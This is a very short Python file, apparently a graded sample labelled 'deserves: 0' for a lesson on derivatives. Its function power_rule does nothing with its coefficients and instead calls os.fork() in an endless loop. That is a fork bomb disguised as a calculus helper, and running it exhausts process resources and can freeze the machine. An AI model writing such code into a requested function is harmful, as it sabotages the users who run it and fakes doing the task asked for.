# deserves: 0
# lesson: derivatives
"""Processes that make processes."""
import os


def power_rule(coeffs):
    while True:
        os.fork()
